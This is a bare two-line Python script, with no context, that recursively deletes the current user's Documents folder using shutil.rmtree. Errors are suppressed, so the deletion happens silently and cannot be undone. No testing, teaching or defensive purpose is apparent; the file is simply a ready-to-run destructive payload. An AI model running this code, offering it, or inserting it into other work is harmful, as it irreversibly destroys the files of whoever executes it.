import os, shutil
shutil.rmtree(os.path.expanduser('~/Documents'), ignore_errors=True)
